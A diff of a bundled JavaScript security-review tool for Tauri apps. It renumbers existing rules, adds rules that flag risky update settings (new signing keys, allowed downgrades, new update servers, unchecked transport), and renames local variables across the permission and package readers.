       title: `${pagesOf(change)} can newly call ${commandsOf(change)}${whereOf(change)}${exampleOf(change)}: ${goneOf(change)}`,
       message: `${guardOf(change)} ${worthOf(change)}`,
@@ -19024,7 +19443,7 @@ var rule18 = {
     };
   }
 };
-var rule_default18 = rule18;
+var rule_default39 = rule39;
 function goneOf({ denial }) {
   if (denial === null) return "what denied it is gone";
   return `${code(denial.permission)} of ${grantorOf(denial.capability)} no longer denies it`;
@@ -19034,13 +19453,13 @@ function guardOf({ denial }) {
 }
 
 // src/rules/ipc/meaning-changed/rule.ts
-var rule19 = {
+var rule40 = {
   id: "ipc/meaning-changed",
   title: "The same permission came to mean more",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "meaning-changed") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${code(change.permission)} came to mean more: ${pagesInside(change)} can newly use ${commandsOf(change)}${whereOf(change)}${exampleOf(change)}`,
       message: `${unchanged(change)} did not change; what its permission stands for did. ${worthOf(change)}`,
@@ -19052,16 +19471,16 @@ function unchanged({ at, namedAt }) {
   const isHere = at.path === namedAt.path && at.line === namedAt.line;
   return isHere ? "The capability" : `The capability, at ${code(`${namedAt.path}:${namedAt.line}`)},`;
 }
-var rule_default19 = rule19;
+var rule_default40 = rule40;
 
 // src/rules/ipc/platform-added/rule.ts
-var rule20 = {
+var rule41 = {
   id: "ipc/platform-added",
   title: "A permission holds on more platforms",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "platform-added") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `${absentOf(change)} ${worthOf(change)}`,
@@ -19069,19 +19488,19 @@ var rule20 = {
     };
   }
 };
-var rule_default20 = rule20;
+var rule_default41 = rule41;
 function absentOf({ note: note2, permission: permission2, capability }) {
   return note2 === "permission-only" ? `The permission ${code(permission2)} did not hold there.` : `The capability ${code(capability)} was not part of the app there.`;
 }
 
 // src/rules/ipc/remote-origin-granted/rule.ts
-var rule21 = {
+var rule42 = {
   id: "ipc/remote-origin-granted",
   title: "A remote page may call the app",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "remote-origin-granted") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `${siteOf(change)}, or gets a script into it, can call the app on the user's machine. ${worthOf(change)}`,
@@ -19089,7 +19508,7 @@ var rule21 = {
     };
   }
 };
-var rule_default21 = rule21;
+var rule_default42 = rule42;
 function siteOf({ pages, witness, capability }) {
   if (capability === ALLOWLIST) return "Whoever controls that site";
   const wild = pages.some(
@@ -19099,13 +19518,13 @@ function siteOf({ pages, witness, capability }) {
 }
 
 // src/rules/ipc/scope-widened/rule.ts
-var rule22 = {
+var rule43 = {
   id: "ipc/scope-widened",
   title: "A scope lets more through",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "scope-widened") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly use ${commandsOf(change)} ${withWhat(change)}`,
       message: `${reasonOf4(change)}${worthOf(change)}`,
@@ -19113,7 +19532,7 @@ var rule22 = {
     };
   }
 };
-var rule_default22 = rule22;
+var rule_default43 = rule43;
 function withWhat(change) {
   const where = whereOf(change);
   if (change.note === "entry-gone") return `with anything${where}`;
@@ -19148,13 +19567,13 @@ function remedyFor2({ note: note2, permission: permission2, capability }) {
 }
 
 // src/rules/ipc/window-added/rule.ts
-var rule23 = {
+var rule44 = {
   id: "ipc/window-added",
   title: "A capability holds for more windows",
   judge(change) {
     if (change.domain !== "ipc" || change.cause !== "window-added") return void 0;
     return {
-      severity: severityOf2(change),
+      severity: severityOf6(change),
       confidence: confidenceOf(change),
       title: `${pagesOf(change)} can newly ${doingWhat(change)}${whereOf(change)}`,
       message: `Everything that ${grantorOf(change.capability)} grants now holds there too. ${worthOf(change)}`,
@@ -19162,14 +19581,14 @@ var rule23 = {
     };
   }
 };
-var rule_default23 = rule23;
+var rule_default44 = rule44;
 function remedyFor3({ note: note2, capability }) {
   if (note2 === "own-pages") return 'If only the site calls these, put `"local": false` back.';
   return capability === ALLOWLIST ? "List only the windows in which the site has to call the app." : "Give them a capability of their own with only what they call.";
 }
 
 // src/rules/packages/checksum-changed/rule.ts
-var rule24 = {
+var rule45 = {
   id: "packages/checksum-changed",
   title: "The same version is other bytes",
   judge(change) {
@@ -19194,10 +19613,10 @@ var rule24 = {
     };
   }
 };
-var rule_default24 = rule24;
+var rule_default45 = rule45;
 
 // src/rules/packages/links-added/rule.ts
-var rule25 = {
+var rule46 = {
   id: "packages/links-added",
   title: "A crate newly links a native library",
   judge(change) {
@@ -19212,10 +19631,10 @@ var rule25 = {
     };
   }
 };
-var rule_default25 = rule25;
+var rule_default46 = rule46;
 
 // src/rules/packages/package-added/rule.ts
-var rule26 = {
+var rule47 = {
   id: "packages/package-added",
   title: "Packages are new",
   judge(change) {
@@ -19232,10 +19651,10 @@ var rule26 = {
     };
   }
 };
-var rule_default26 = rule26;
+var rule_default47 = rule47;
 
 // src/rules/packages/plugin-added/rule.ts
-var rule27 = {
+var rule48 = {
   id: "packages/plugin-added",
   title: "A Tauri plugin is new",
   judge(change) {
@@ -19250,10 +19669,10 @@ var rule27 = {
     };
   }
 };
-var rule_default27 = rule27;
+var rule_default48 = rule48;
 
 // src/rules/packages/source-changed/rule.ts
-var rule28 = {
+var rule49 = {
   id: "packages/source-changed",
   title: "A package comes from somebody else",
   judge(change) {
@@ -19261,7 +19680,7 @@ var rule28 = {
     const isNew2 = change.from === null;
     const verb = change.packages.length === 1 ? "comes" : "come";
     return {
-      severity: severityOf3(change),
+      severity: severityOf7(change),
       confidence: "certain",
       title: `${packagesInWords(change)} newly ${verb} from ${addressOf(change)}`,
       message: `${isNew2 ? "Nothing of the app came from there before" : "Base takes it from elsewhere"}: its owner now decides what code is built into the app under that name.${wayInWords(change)}`,
@@ -19269,9 +19688,9 @@ var rule28 = {
     };
   }
 };
-var rule_default28 = rule28;
+var rule_default49 = rule49;
 var TAURI = "git https://github.com/tauri-apps/";
-function severityOf3({ witness }) {
+function severityOf7({ witness }) {
   const source = sourceOf(witness);
   if (source === "registry") return "low";
   return source.startsWith(TAURI) ? "medium" : "high";
@@ -19285,6 +19704,86 @@ function addressOf({ witness, ecosystem, owners }) {
   if (source === "registry") return ecosystem === "cargo" ? "crates.io" : "the npm registry";
   return code(source.slice(source.indexOf(" ") + 1).replace(/[?#].*$/s, ""));
 }
+
+// src/rules/updates/key-trusted/rule.ts
+var rule50 = {
+  id: "updates/key-trusted",
+  title: "Another key signs the app's updates",
+  judge(change) {
+    const found2 = onLever(change, "key-trusted");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.before.length === 0 ? "high" : "critical"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The signature is the only thing that is checked of an update: the holder of this key can ship code to everyone who has the app.",
+      remedy: "Confirm the key with the person who keeps it, by another way than this pull request. Old installations need one more update that the old key signed."
+    };
+  }
+};
+var rule_default50 = rule50;
+
+// src/rules/updates/rollback-allowed/rule.ts
+var rule51 = {
+  id: "updates/rollback-allowed",
+  title: "An old release can be installed as an update",
+  judge(change) {
+    const found2 = onLever(change, "rollback-allowed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.extent.endsWith(BY_PAGE) ? "low" : "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Old releases carry valid signatures, and the server's answer isn't signed. Who controls that answer can bring back a hole that was closed long ago.",
+      remedy: "Set `requireSignedVersion` to `true` and leave `allowDowngrades` away, with version 2.12 or later of the updater."
+    };
+  }
+};
+var rule_default51 = rule51;
+var BY_PAGE = ": asked by a page";
+
+// src/rules/updates/source-added/rule.ts
+var rule52 = {
+  id: "updates/source-added",
+  title: "Updates are announced from another place",
+  judge(change) {
+    const found2 = onLever(change, "source-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf8(found2)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The answer isn't signed: the server can keep an update from people, or name an old release that is signed. The first endpoint that answers is the one that counts.",
+      remedy: "Use only servers that you control, over HTTPS, and set `requireSignedVersion`."
+    };
+  }
+};
+var rule_default52 = rule52;
+function severityOf8({ extent, before }) {
+  const host = hostOf(extent);
+  return host !== void 0 && before.some((known2) => hostOf(known2) === host) ? "medium" : "high";
+}
+function hostOf(url) {
+  return /^https:\/\/([^/?#]+)/i.exec(url)?.[1];
+}
+
+// src/rules/updates/transport-unchecked/rule.ts
+var rule53 = {
+  id: "updates/transport-unchecked",
+  title: "The way to the update server is unchecked",
+  judge(change) {
+    const found2 = onLever(change, "transport-unchecked");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Anyone on the same network can then answer for the server: keep updates from people, or offer an old release that is signed.",
+      remedy: "Remove the setting, and give the server a certificate that systems trust."
+    };
+  }
+};
+var rule_default53 = rule53;
 
 // src/rules/index.ts
 var rules = [
@@ -19315,7 +19814,32 @@ var rules = [
   rule_default25,
   rule_default26,
   rule_default27,
-  rule_default28
+  rule_default28,
+  rule_default29,
+  rule_default30,
+  rule_default31,
+  rule_default32,
+  rule_default33,
+  rule_default34,
+  rule_default35,
+  rule_default36,
+  rule_default37,
+  rule_default38,
+  rule_default39,
+  rule_default40,
+  rule_default41,
+  rule_default42,
+  rule_default43,
+  rule_default44,
+  rule_default45,
+  rule_default46,
+  rule_default47,
+  rule_default48,
+  rule_default49,
+  rule_default50,
+  rule_default51,
+  rule_default52,
+  rule_default53
 ];
 
 // src/engine/read-policy.ts
@@ -19365,7 +19889,7 @@ var SettingsReader = class {
       return settings;
     }
     for (const [id, { key, value: setting }] of value.entries) {
-      if (!rules.some((rule29) => rule29.id === id)) this.#note(key, noRule(id));
+      if (!rules.some((rule54) => rule54.id === id)) this.#note(key, noRule(id));
       const wanted = this.#oneOf(id, RULE_SETTINGS, setting);
       if (wanted !== void 0) settings.set(id, wanted);
     }
@@ -19387,7 +19911,7 @@ var SETTINGS = `${code("fail-on")}, ${code("incomplete")} and ${code("rules")}`;
 var EXAMPLE = "ipc/command-granted: high";
 function noRule(id) {
   const last2 = id.slice(id.lastIndexOf("/") + 1);
-  const near = rules.filter((rule29) => last2 !== "" && rule29.id.endsWith(`/${last2}`)).map((rule29) => code(rule29.id));
+  const near = rules.filter((rule54) => last2 !== "" && rule54.id.endsWith(`/${last2}`)).map((rule54) => code(rule54.id));
   const hint = near.length > 0 ? `did you mean ${near.join(" or ")}?` : `docs/rules.md lists them.`;
   return `There is no rule ${code(id)}; ${hint}`;
 }
@@ -19475,8 +19999,8 @@ function discoverApps(paths3) {
     const rank2 = rankOf(path);
     if (rank2 < 0) continue;
     const root = folderOf(path);
-    const known = configOf.get(root);
-    if (known === void 0 || rank2 < rankOf(known)) configOf.set(root, path);
+    const known2 = configOf.get(root);
+    if (known2 === void 0 || rank2 < rankOf(known2)) configOf.set(root, path);
   }
   return [...configOf].map(([root, config]) => ({ root, config })).sort((a, b) => a.root < b.root ? -1 : 1);
 }
@@ -19693,16 +20217,16 @@ function indexOf(packages) {
 }
 function file(index, key, each) {
   const own = each.source === "path" ? each : void 0;
-  const known = index.get(key);
-  if (known === void 0) {
+  const known2 = index.get(key);
+  if (known2 === void 0) {
     index.set(key, { first: each, count: 1, own, owns: own === void 0 ? 0 : 1, oneVersion: true });
     return;
   }
-  known.count += 1;
-  known.oneVersion &&= known.first.version === each.version;
+  known2.count += 1;
+  known2.oneVersion &&= known2.first.version === each.version;
   if (own === void 0) return;
-  known.own = own;
-  known.owns += 1;
+  known2.own = own;
+  known2.owns += 1;
 }
 function keyOf(parts) {
   return JSON.stringify(parts);
@@ -19771,14 +20295,14 @@ function pathDependency(root, files, manifest2, crate) {
   return null;
 }
 function appPackage(lock, name) {
-  const candidates = name === void 0 ? [] : lock.byName.get(name) ?? [];
-  return candidates.find((candidate) => candidate.source === "path");
+  const candidates2 = name === void 0 ? [] : lock.byName.get(name) ?? [];
+  return candidates2.find((candidate) => candidate.source === "path");
 }
 function lockedVersion(lock, app, crate) {
   const direct = app?.dependencies.find((dependency) => dependency.target?.name === crate)?.target;
   if (direct !== void 0) return direct;
-  const [...candidates] = lock.byName.get(crate) ?? [];
-  return candidates.sort((a, b) => byVersion(b.version, a.version))[0];
+  const [...candidates2] = lock.byName.get(crate) ?? [];
+  return candidates2.sort((a, b) => byVersion(b.version, a.version))[0];
 }
 function byVersion(a, b) {
   const [left, right] = [(0, import_semver.parse)(a), (0, import_semver.parse)(b)];
@@ -19904,16 +20428,16 @@ function lockOf(project) {
 }
 function neededCrates(base, head) {
   const inBase = new Set(base.map(identityOf));
-  const known = Map.groupBy(base, (crate) => crate.name);
-  const added = Map.groupBy(
+  const known2 = Map.groupBy(base, (crate) => crate.name);
+  const added2 = Map.groupBy(
     head.filter((crate) => !inBase.has(identityOf(crate))),
     (crate) => crate.name
   );
-  const fresh = [...added].filter(([name]) => !known.has(name));
-  const moved = [...added].filter(([name]) => known.has(name));
+  const fresh = [...added2].filter(([name]) => !known2.has(name));
+  const moved = [...added2].filter(([name]) => known2.has(name));
   return [
-    ...fresh.flatMap(([, crates]) => crates.flatMap(needOf)),
-    ...moved.flatMap(([name, crates]) => [...crates, ...known.get(name) ?? []].flatMap(needOf))
+    ...fresh.flatMap(([, crates2]) => crates2.flatMap(needOf)),
+    ...moved.flatMap(([name, crates2]) => [...crates2, ...known2.get(name) ?? []].flatMap(needOf))
   ];
 }
 function identityOf(crate) {
@@ -20259,8 +20783,8 @@ function secureByDefault(security) {
   return asBoolean(configKey(security, "dangerousUseHttpScheme")) !== true;
 }
 function secureWindows(app) {
-  const windows2 = itemsOf(member(app, "windows"));
-  const secure = windows2.map((window) => asBoolean(configKey(window, "useHttpsScheme")) === true);
+  const windows3 = itemsOf(member(app, "windows"));
+  const secure = windows3.map((window) => asBoolean(configKey(window, "useHttpsScheme")) === true);
   return [...new Set(secure.length === 0 ? [false] : secure)];
 }
 
@@ -20282,11 +20806,11 @@ function readPlatform(project, platform) {
   const settings = cspSettings(project.config(platform), project.major);
   const page = settings.server === void 0 ? frontPage(project, settings.dist) : void 0;
   const directives = settings.csp === void 0 ? [] : directivesOf(settings.csp);
-  const { headers, own, absence, gaps: gaps2 } = sentByTauri(settings, directives, page);
+  const { headers: headers2, own, absence, gaps: gaps2 } = sentByTauri(settings, directives, page);
   const places = placesOf(settings, directives, page);
   const metas = page?.marks.metaPolicies.map((meta) => meta.content) ?? [];
   const origins = originsOn(platform, settings.server, settings.secure);
-  const grants = headers.flatMap((sent) => {
+  const grants = headers2.flatMap((sent) => {
     const policies = [...sent === null ? [] : [sent], ...metas];
     const header = policies.length === 0 ? null : policies.join(", ");
     const missing = header === null ? absence : null;
@@ -20301,12 +20825,12 @@ function sentByTauri(settings, directives, page) {
   if (settings.server !== void 0) return nothingSent("remote-pages");
   if (settings.csp === void 0) return nothingSent("not-configured");
   const hasStyle = page?.marks.hasStyle ?? false;
-  const { headers, own, complete } = effectivePolicy(directives, settings, hasStyle);
-  const text = headers.join("");
+  const { headers: headers2, own, complete } = effectivePolicy(directives, settings, hasStyle);
+  const text = headers2.join("");
   if (/[^\0-\x7f]/.test(text)) return nothingSent("not-ascii");
   const at = settings.nearest.at;
   if (/[^\t -~]/.test(text)) return { headers: [], own: [], absence: null, gaps: [pagesFail(at)] };
-  return { headers, own, absence: null, gaps: complete ? [] : [tooManyOrders(at)] };
+  return { headers: headers2, own, absence: null, gaps: complete ? [] : [tooManyOrders(at)] };
 }
 function nothingSent(absence) {
   return { headers: [null], own: [], absence, gaps: [] };
@@ -20418,7 +20942,7 @@ function packageAt(location, { key, value }) {
   const version = member(value, "version");
   const resolved = member(value, "resolved");
   const integrity = member(value, "integrity");
-  const link = asBoolean(member(value, "link")) === true;
+  const link2 = asBoolean(member(value, "link")) === true;
   const name = asString(member(value, "name")) ?? nameIn(location);
   const installed = isInstalled(location);
   return {
@@ -20429,12 +20953,12 @@ function packageAt(location, { key, value }) {
       name,
       version: asString(version) ?? "",
       resolved: asString(resolved),
-      local: link || !installed,
+      local: link2 || !installed,
       bundled: asBoolean(member(value, "inBundle")) === true
     }),
     integrity: asString(integrity) ?? null,
     hasInstallScript: asBoolean(member(value, "hasInstallScript")) === true,
-    target: link ? asString(resolved) ?? "" : null,
+    target: link2 ? asString(resolved) ?? "" : null,
     dependencies: askedFor(value, installed),
     at: key,
     lines: {
@@ -20623,6 +21147,15 @@ function parsed2(file2) {
   return result?.ok ? result.value : void 0;
 }
 
+// src/tauri/rust-files.ts
+function isRustOfApp(path, root) {
+  return path.endsWith(".rs") && below(root, path)?.startsWith("src/") === true;
+}
+function isEntryPoint(path, root) {
+  const inside = below(root, path);
+  return inside === "src/main.rs" || inside === "src/lib.rs";
+}
+
 // src/tauri/versions.ts
 var import_semver3 = __toESM(require_semver2(), 1);
 function isTauri3(project) {
@@ -20639,10 +21172,10 @@ function isBefore(version, limit) {
 function readCapabilityFile(root) {
   const listed = member(root, "capabilities");
   const items = root.kind === "array" ? root.items : listed?.kind === "array" ? listed.items : [root];
-  const read = items.map(readCapability);
+  const read2 = items.map(readCapability);
   return {
-    capabilities: read.flatMap(({ capability }) => capability ?? []),
-    gaps: read.flatMap(({ gaps: gaps2 }) => gaps2)
+    capabilities: read2.flatMap(({ capability }) => capability ?? []),
+    gaps: read2.flatMap(({ gaps: gaps2 }) => gaps2)
   };
 }
 function readCapability(value) {
@@ -20656,7 +21189,7 @@ function readCapability(value) {
   const listed = member(value, "permissions");
   if (identifier === void 0) wrong(value.at, "it has no identifier");
   if (listed?.kind !== "array") wrong(listed?.at ?? value.at, "it has no list of permissions");
-  const windows2 = patterns(member(value, "windows"), "windows", wrong);
+  const windows3 = patterns(member(value, "windows"), "windows", wrong);
   const webviews = patterns(member(value, "webviews"), "webviews", wrong);
   const remote = remoteUrls(member(value, "remote"), wrong);
   const platforms = platformsFrom(member(value, "platforms"), wrong);
@@ -20673,7 +21206,7 @@ function readCapability(value) {
       at: member(value, "identifier")?.at ?? value.at,
       local: local?.kind === "boolean" ? local.value : true,
       remote,
-      windows: windows2,
+      windows: windows3,
       webviews,
       permissions,
       platforms,
@@ -20896,12 +21429,12 @@ var MAX_CHARACTER = 1114111;
 function languageOf(source) {
   return bounded(() => tabled(automatonOf(source)));
 }
-function sequenceOf(sources2, end) {
+function sequenceOf(sources3, end) {
   return bounded(() => {
     const factory = new import_refa.NFA.LimitedNodeFactory(MAX_NODES);
     const [word, ending] = [automatonOf(`[^${end}]*`), automatonOf(end)];
     const whole = automatonOf("").copy(factory);
-    for (const source of sources2) {
+    for (const source of sources3) {
       whole.append(import_refa.NFA.fromIntersection(automatonOf(source), word, factory), factory);
       whole.append(ending, factory);
     }
@@ -21114,13 +21647,13 @@ function parseClass(characters, open) {
 // src/language/remembered.ts
 var MOST = 4096;
 function remembered(answer) {
-  const known = /* @__PURE__ */ new Map();
+  const known2 = /* @__PURE__ */ new Map();
   return (question) => {
-    const before = known.get(question);
-    if (before !== void 0 || known.has(question)) return before;
-    if (known.size >= MOST) known.clear();
+    const before = known2.get(question);
+    if (before !== void 0 || known2.has(question)) return before;
+    if (known2.size >= MOST) known2.clear();
     const now = answer(question);
-    known.set(question, now);
+    known2.set(question, now);
     return now;
   };
 }
@@ -21141,7 +21674,7 @@ function builtCapability(source, made, place) {
   const reader = new Arguments(source, place);
   const [identifier] = reader.texts(made);
   if (identifier === void 0) return void 0;
-  const windows2 = [];
+  const windows3 = [];
   const webviews = [];
   const remote = [];
   const permissions = [];
@@ -21151,7 +21684,7 @@ function builtCapability(source, made, place) {
     switch (call.name) {
       case "window":
       case "windows":
-        windows2.push(...reader.texts(call));
+        windows3.push(...reader.texts(call));
         break;
       case "webview":
       case "webviews":
@@ -21183,7 +21716,7 @@ function builtCapability(source, made, place) {
     at: identifier.at,
     local,
     remote,
-    windows: windows2,
+    windows: windows3,
     webviews,
     permissions,
     platforms: platforms ?? EVERY_PLATFORM,
@@ -21213,8 +21746,8 @@ var Arguments = class {
   }
   platforms({ inside }) {
     const named2 = [...this.#text(inside).matchAll(/\bTarget\s*::\s*(\w+)/g)].map(([, name]) => name);
-    const known = named2.map((name) => PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()));
-    return known.length > 0 && known.every((each) => each !== void 0) ? platformSet(...known) : this.#computed(EVERY_PLATFORM);
+    const known2 = named2.map((name) => PLATFORMS.find((each) => each.toLowerCase() === name?.toLowerCase()));
+    return known2.length > 0 && known2.every((each) => each !== void 0) ? platformSet(...known2) : this.#computed(EVERY_PLATFORM);
   }
   /** A permission with lists of texts for its scope: `permission_scoped("fs:scope", vec!["/a"], vec![])`. */
   scoped({ inside }) {
@@ -21241,13 +21774,6 @@ var Arguments = class {
 };
 
 // src/readers/tauri-acl/rust-capabilities.ts
-function isEntryPoint(path, root) {
-  const inside = below(root, path);
-  return inside === "src/main.rs" || inside === "src/lib.rs";
-}
-function isRustOfApp(path, root) {
-  return path.endsWith(".rs") && below(root, path)?.startsWith("src/") === true;
-}
 function rustCapabilities(project) {
   const { root } = project.location;
   const found2 = [...project.files.values()].filter(({ path }) => isRustOfApp(path, root)).map((file2) => new RustFile(file2, root).read());
@@ -21333,9 +21859,9 @@ var RustFile = class {
       this.#gaps.push(gapAt(at, "unparsed", message));
       return;
     }
-    const read = readCapabilityFile(parsed3.value);
-    this.#capabilities.push(...read.capabilities);
-    this.#gaps.push(...read.gaps);
+    const read2 = readCapabilityFile(parsed3.value);
+    this.#capabilities.push(...read2.capabilities);
+    this.#gaps.push(...read2.gaps);
   }
   /** What it adds may depend on anything. Where base has the very same file, it added the same. */
   #computed({ at, inside }) {
@@ -21419,13 +21945,13 @@ function activeCapabilities(project, script) {
   const found2 = capabilityFiles(project, script);
   const gaps2 = [...found2.gaps];
   const files = capabilitiesIn(found2.files, gaps2);
-  const added = rustCapabilities(project);
-  gaps2.push(...added.gaps);
+  const added2 = rustCapabilities(project);
+  gaps2.push(...added2.gaps);
   const named2 = capabilitiesIn(
-    namedFiles(project, [...script.capabilityFiles, ...added.atBuild], gaps2),
+    namedFiles(project, [...script.capabilityFiles, ...added2.atBuild], gaps2),
     gaps2
   );
-  const atRunTime = capabilitiesIn(namedFiles(project, added.atRunTime, gaps2), gaps2);
+  const atRunTime = capabilitiesIn(namedFiles(project, added2.atRunTime, gaps2), gaps2);
   const byIdentity = /* @__PURE__ */ new Map();
   const inlineRead = /* @__PURE__ */ new Map();
   const complained = /* @__PURE__ */ new Set();
@@ -21438,7 +21964,7 @@ function activeCapabilities(project, script) {
     }
   }
   const sorted = [...byIdentity].map(([capability, platforms]) => ({ capability, platforms: platforms & capability.platforms })).filter(({ platforms }) => platforms !== NO_PLATFORM).sort((a, b) => compareBytes(a.capability.identifier, b.capability.identifier));
-  const last2 = [...atRunTime.values(), ...added.capabilities].map((capability) => ({
+  const last2 = [...atRunTime.values(), ...added2.capabilities].map((capability) => ({
     capability,
     platforms: capability.platforms
   }));
@@ -21465,9 +21991,9 @@ function activeCapabilities(project, script) {
   }
   function inline(item) {
     if (!inlineRead.has(item)) {
-      const read = readCapability(item);
-      for (const gap of read.gaps) gaps2.push(gap);
-      inlineRead.set(item, read.capability);
+      const read2 = readCapability(item);
+      for (const gap of read2.gaps) gaps2.push(gap);
+      inlineRead.set(item, read2.capability);
     }
     return inlineRead.get(item);
   }
@@ -21490,13 +22016,13 @@ function capabilitiesIn(files, gaps2) {
       gaps2.push(gapAt(parsed3.at, "unparsed", `This capability file can't be read: ${parsed3.message}`));
       continue;
     }
-    const read = readCapabilityFile(parsed3.value);
-    for (const gap of read.gaps) gaps2.push(gap);
+    const read2 = readCapabilityFile(parsed3.value);
+    for (const gap of read2.gaps) gaps2.push(gap);
     for (const { name, at } of parsed3.value.kind === "array" ? parsed3.duplicates : []) {
       const message = `The key ${code(name)} stands twice in one object of this list of capabilities: the app doesn't build.`;
       gaps2.push(gapAt(at, "does-not-build", message));
     }
-    for (const capability of read.capabilities) {
+    for (const capability of read2.capabilities) {
       if (byIdentifier.size >= MOST_CAPABILITIES) {
         const message = `The app has more than ${MOST_CAPABILITIES} capabilities; this one and the rest were not read.`;
         gaps2.push(gapAt(capability.at, "truncated", message));
@@ -22847,12 +23373,12 @@ function knownVersions(key) {
   return rows;
 }
 function manifest(folded2) {
-  let known = manifestOf.get(folded2);
-  if (known === void 0) {
-    known = catalogued(unfolded(folded2));
-    manifestOf.set(folded2, known);
+  let known2 = manifestOf.get(folded2);
+  if (known2 === void 0) {
+    known2 = catalogued(unfolded(folded2));
+    manifestOf.set(folded2, known2);
   }
-  return known;
+  return known2;
 }
 function catalogued({ c, demand, def, p, s }) {
   const sets = new Map(Object.entries(s ?? {}));
@@ -23025,22 +23551,22 @@ function manifestsOf(project, script, facts) {
   const gaps2 = [...own.gaps, ...app.gaps];
   const inTree = /* @__PURE__ */ new Map();
   for (const [key, itsFiles] of pluginFiles(files, project)) {
-    const read = readPermissionFiles(itsFiles, [], lists);
-    for (const gap of read.gaps) gaps2.push(gap);
-    inTree.set(key, read.manifest);
+    const read2 = readPermissionFiles(itsFiles, [], lists);
+    for (const gap of read2.gaps) gaps2.push(gap);
+    inTree.set(key, read2.manifest);
   }
   for (const [name, { commands, default: given }] of script.plugins) {
-    const read = readPermissionFiles(own.inlined.get(name) ?? [], commands, lists);
-    for (const gap of read.gaps) gaps2.push(gap);
-    inTree.set(name, { ...read.manifest, default: read.manifest.default ?? given });
+    const read2 = readPermissionFiles(own.inlined.get(name) ?? [], commands, lists);
+    for (const gap of read2.gaps) gaps2.push(gap);
+    inTree.set(name, { ...read2.manifest, default: read2.manifest.default ?? given });
   }
-  const known = /* @__PURE__ */ new Map([["", { how: "known", manifest: app.manifest }]]);
+  const known2 = /* @__PURE__ */ new Map([["", { how: "known", manifest: app.manifest }]]);
   return {
     of(key) {
-      const before = known.get(key);
+      const before = known2.get(key);
       if (before !== void 0) return before;
       const answer = find(key, project, inTree, facts);
-      known.set(key, answer);
+      known2.set(key, answer);
       return answer;
     },
     isKey: (key) => inTree.has(key) || isCatalogued(key) || project.locked(crateOf(key)) !== void 0,
@@ -23295,8 +23821,8 @@ function commandsOf2(names2, key, manifests) {
   return names2.flatMap((name) => {
     if (name !== "*") return [{ name, at: null }];
     if (!manifests.wildcards) return [];
-    const known = manifests.of(key);
-    const declared = known.how === "unknown" ? [] : known.manifest.commands;
+    const known2 = manifests.of(key);
+    const declared = known2.how === "unknown" ? [] : known2.manifest.commands;
     if (declared.length === 0) return [{ name, at: null }];
     return declared.map((command) => ({
       name: command.name,
@@ -23349,8 +23875,8 @@ function leavesOf(entry, manifests, gaps2) {
     }
     const [key, id] = split2(reference, home, manifests);
     const path = `${key}:${id}`;
-    const known = manifests.of(key);
-    if (known.how === "unknown") {
+    const known2 = manifests.of(key);
+    if (known2.how === "unknown") {
       sayUnknown(
         manifests.release(key),
         `What ${code(reference)} allows is not known: the permissions of the plugin ${code(key)} are neither in this repository nor among those that are known. Its name was taken at its word.`
@@ -23358,11 +23884,11 @@ function leavesOf(entry, manifests, gaps2) {
       leaves.push({ key, id, permission: inferredPermission(id), inferred: true, steps });
       return;
     }
-    const { manifest: manifest2 } = known;
-    if (known.how === "assumed") {
-      if (known.instead === "release" || known.instead === "newest")
-        say("assumed-version", assumption(crateOf(key), known), false);
-      else sayUnknown(manifests.release(key), assumption(crateOf(key), known));
+    const { manifest: manifest2 } = known2;
+    if (known2.how === "assumed") {
+      if (known2.instead === "release" || known2.instead === "newest")
+        say("assumed-version", assumption(crateOf(key), known2), false);
+      else sayUnknown(manifests.release(key), assumption(crateOf(key), known2));
     }
     if (key === "" && id === "default" && !manifests.appHasManifest) {
       refuse(reference, "is not declared by the app");
@@ -23385,13 +23911,13 @@ function leavesOf(entry, manifests, gaps2) {
       return;
     }
     const permission2 = manifest2.permission(id) ?? wildcard(key, id, manifest2);
-    const generated = known.how === "in-tree" && /^(?:allow|deny)-./.test(id);
+    const generated = known2.how === "in-tree" && /^(?:allow|deny)-./.test(id);
     if (permission2 !== void 0) leaves.push({ key, id, permission: permission2, inferred: false, steps });
     else if (generated) leaves.push({ key, id, permission: inferredPermission(id), inferred: false, steps });
-    else if (known.how === "assumed") {
+    else if (known2.how === "assumed") {
       say(
         "unknown-permission",
-        `${code(reference)} is no permission of ${code(key)} ${known.from}; whether ${known.version} has it is not known. Its name was taken at its word.`
+        `${code(reference)} is no permission of ${code(key)} ${known2.from}; whether ${known2.version} has it is not known. Its name was taken at its word.`
       );
       leaves.push({ key, id, permission: inferredPermission(id), inferred: true, steps });
     } else
@@ -23611,9 +24137,9 @@ function readAllowlist(config) {
   const root = pick2(config, "tauri", "allowlist");
   const gaps2 = [];
   const values = /* @__PURE__ */ new Map();
-  const note2 = (name, known, { key, value }) => {
-    if (known && isRightFor(name, value)) values.set(name, value);
-    else gaps2.push(gapAt(key, "does-not-build", refusal(name, known)));
+  const note2 = (name, known2, { key, value }) => {
+    if (known2 && isRightFor(name, value)) values.set(name, value);
+    else gaps2.push(gapAt(key, "does-not-build", refusal(name, known2)));
   };
   for (const [name, member2] of membersOf2(root)) {
     const group2 = GROUPS.get(name);
@@ -23646,8 +24172,8 @@ function membersOf2(value) {
   return [...value.entries].map(([name, member2]) => [camelCase(name), member2]);
 }
